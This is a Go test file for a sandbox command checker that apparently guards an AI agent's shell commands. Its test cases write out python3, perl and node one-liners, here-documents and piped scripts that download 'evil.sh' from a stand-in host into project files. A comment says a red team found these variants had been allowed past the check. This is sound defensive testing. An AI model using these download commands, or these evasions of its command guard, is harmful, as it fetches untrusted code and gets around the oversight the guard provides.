package rewrite

import (
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// codeFetchFiles are the project's scripts for the fetch-and-print rows:
// two that print what they fetch, one that fetches and prints other text,
// one that prints without fetching.
func codeFetchFiles(t *testing.T, proj, url string) {
	t.Helper()
	files := map[string]string{
		"fetch.py": "import urllib.request\nr = urllib.request.urlopen(\"" + url + "\")\nprint(r.read().decode(), end=\"\")\n",
		"x.pl":     "use HTTP::Tiny;\nmy $c = HTTP::Tiny->new->get(\"" + url + "\")->{content};\nprint $c;\n",
		"ping.py":  "import urllib.request\nurllib.request.urlopen(\"" + url + "\")\nprint(\"done\")\n",
		"hello.py": "print(\"hello\")\n",
	}
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(proj, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestCodeFetchStdoutStdinAndFiles: interpreter code that fetches a URL
// and prints it is a downloader whether it is on the command line (-c,
// -e), in a here-document or here-string, behind "< FILE", piped from
// the stage before (echo CODE | python3, cat f.py | python3), or in a
// script file on disk (red team 15 OV1 task 2): its stdout into a
// project file moves into the sandbox. Each was allow. Look-alikes: a
// script that fetches and prints other text, one that only prints, and
// the same programs printing to the terminal or into a pipe pass.
func TestCodeFetchStdoutStdinAndFiles(t *testing.T) {
	t.Parallel()
	const u = "https://h.example/evil.sh"
	proj := t.TempDir()
	codeFetchFiles(t, proj, u)
	cfg := &Config{Cwd: proj, Project: proj, Home: t.TempDir(), Sandbox: filepath.Join(proj, "agent_sandbox"), Mode: ModeRewrite, Approve: ApproveAuto}
	py := `import urllib.request as u; print(u.urlopen("` + u + `").read().decode())`
	testRuleWith(t, cfg, "http-client", []ruleCase{
		{"python3 <<'E' > evil.sh\nimport urllib.request\nr = urllib.request.urlopen(\"" + u + "\")\nprint(r.read().decode())\nE", Rewrite},
		{`python3 - <<< '` + py + `' > evil.sh`, Rewrite},
		{"node <<'E' > evil.sh\nfetch(\"" + u + "\").then(r => r.text()).then(console.log)\nE", Rewrite},
		{"perl <<'E' | tee evil.sh\nuse LWP::Simple;\nprint get(\"" + u + "\");\nE", Rewrite},
		{`python3 fetch.py > evil.sh`, Rewrite},
		{`python3 < fetch.py > evil.sh`, Rewrite},
		{`perl x.pl > evil.sh`, Rewrite},
		{`perl x.pl >> evil.sh`, Rewrite},
		{`echo '` + py + `' | python3 > evil.sh`, Rewrite},
		{`cat fetch.py | python3 - > evil.sh`, Rewrite},
		// Look-alikes.
		{`python3 ping.py > out.txt`, Allow},
		{`python3 hello.py > out.txt`, Allow},
		{`python3 fetch.py`, Allow},
		{`python3 fetch.py | jq .`, Allow},
		{`python3 missing.py > out.txt`, Allow},
		{"python3 <<'E' > out.txt\nprint(\"" + u + "\")\nE", Allow},
		{`python3 <<< 'print(1)' > out.txt`, Allow},
		{`echo 'print(1)' | python3 > out.txt`, Allow},
	})
}

// TestCodeFetchStdoutFilesExec runs the real python3 and perl with the
// project's script on disk and with the program in a here-document
// against a loopback server: as written, the project's file holds the
// served bytes (the script is a downloader); as rewritten, the sandbox's
// does and the project's is never made.
func TestCodeFetchStdoutFilesExec(t *testing.T) {
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skip(err)
	}
	body := "echo PWNED > /tmp/pwned"
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte(body)) })}
	go srv.Serve(ln)
	defer srv.Close()
	url := "http://" + ln.Addr().String() + "/evil.sh"
	tests := []struct{ prog, cmd string }{
		{"python3", `python3 fetch.py > evil.sh`},
		{"python3", `python3 < fetch.py > evil.sh`},
		{"python3", "python3 <<'E' > evil.sh\nimport urllib.request\nr = urllib.request.urlopen(\"" + url + "\")\nprint(r.read().decode(), end=\"\")\nE"},
		{"perl", `perl x.pl > evil.sh`},
	}
	for _, tt := range tests {
		if _, err := exec.LookPath(tt.prog); err != nil {
			continue
		}
		for _, asRewritten := range []bool{false, true} {
			proj := t.TempDir()
			home := t.TempDir()
			codeFetchFiles(t, proj, url)
			sb := filepath.Join(proj, "agent_sandbox")
			cfg := &Config{Cwd: proj, Project: proj, Home: home, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}
			r := Check(cfg, tt.cmd)
			if r.Decision != Rewrite {
				t.Errorf("%s: %s, want rewrite (%v)", tt.cmd, r.Decision, r.Findings)
				continue
			}
			run, where := tt.cmd, filepath.Join(proj, "evil.sh")
			if asRewritten {
				run, where = r.Rewritten, filepath.Join(sb, "evil.sh")
				if err := os.MkdirAll(sb, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			sh := exec.Command("bash", "-c", run)
			sh.Dir = proj
			sh.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "no_proxy=*", "NO_PROXY=*"}
			if b, err := sh.CombinedOutput(); err != nil {
				t.Errorf("%s: %v\n%s", run, err, b)
				continue
			}
			if got, err := os.ReadFile(where); err != nil || strings.TrimSpace(string(got)) != body {
				t.Errorf("%s: %s holds %q (%v), want the served bytes", run, where, got, err)
			}
			if asRewritten {
				if _, err := os.Stat(filepath.Join(proj, "evil.sh")); err == nil {
					t.Errorf("%s wrote evil.sh in the project", run)
				}
			}
		}
	}
}
